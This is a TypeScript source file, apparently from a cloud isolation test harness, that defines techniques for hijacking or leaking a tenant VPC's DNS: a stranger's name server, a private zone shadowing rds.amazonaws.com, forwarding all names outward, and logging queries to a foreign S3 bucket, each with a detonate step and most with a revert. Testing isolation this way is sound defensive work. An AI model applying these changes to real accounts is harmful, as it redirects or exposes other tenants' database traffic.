import { CreateHostedZoneCommand, DeleteHostedZoneCommand, Route53Client } from '@aws-sdk/client-route-53';
import { Route53ResolverClient } from '@aws-sdk/client-route53resolver';
import { vpcOf } from '../../../functions/isolation/subject';
import { namesAnswered, namesForwarded, namesTold, strangersNameServer } from '../name-changes';
import type { AttackTechnique, Detonated } from '../technique';

const byResolver = (
  name: string,
  change: (resolver: Route53ResolverClient, vpcId: string) => Promise<Detonated>,
): AttackTechnique => ({
  name,
  check: 'network.resolver',
  detonate: ({ subject, aws }) => change(new Route53ResolverClient(aws), vpcOf(subject)),
});

/** How the names that a tenant's database asks for are answered by a stranger, or told to one. */
export const VPC_NAME_TECHNIQUES: readonly AttackTechnique[] = [
  {
    name: 'have the tenant’s VPC ask a stranger’s name server',
    check: 'network.dns',
    detonate: ({ subject, root: { ec2 } }) => strangersNameServer(ec2, vpcOf(subject)),
  },
  {
    name: 'answer the tenant’s database by a private zone',
    check: 'network.dns',
    detonate: async ({ subject, aws }) => {
      const route53 = new Route53Client(aws);
      const { HostedZone } = await route53.send(
        new CreateHostedZoneCommand({
          ...{ Name: 'rds.amazonaws.com', CallerReference: String(Date.now()) },
          VPC: { VPCId: vpcOf(subject), VPCRegion: 'eu-central-1' },
        }),
      );
      const Id = HostedZone?.Id;
      return {
        expectedEvidence: 'answers for rds.amazonaws.com',
        revert: () => route53.send(new DeleteHostedZoneCommand({ Id })),
      };
    },
  },
  byResolver('forward every name of the tenant’s VPC to a stranger’s name server', (resolver, vpc) =>
    namesForwarded(resolver, vpc, '.'),
  ),
  byResolver('tell a stranger’s bucket what the tenant’s database asks for', (resolver, vpc) =>
    namesTold(resolver, vpc, 'arn:aws:s3:::theirs'),
  ),
  byResolver('let a DNS Firewall answer the tenant’s database', namesAnswered),
];
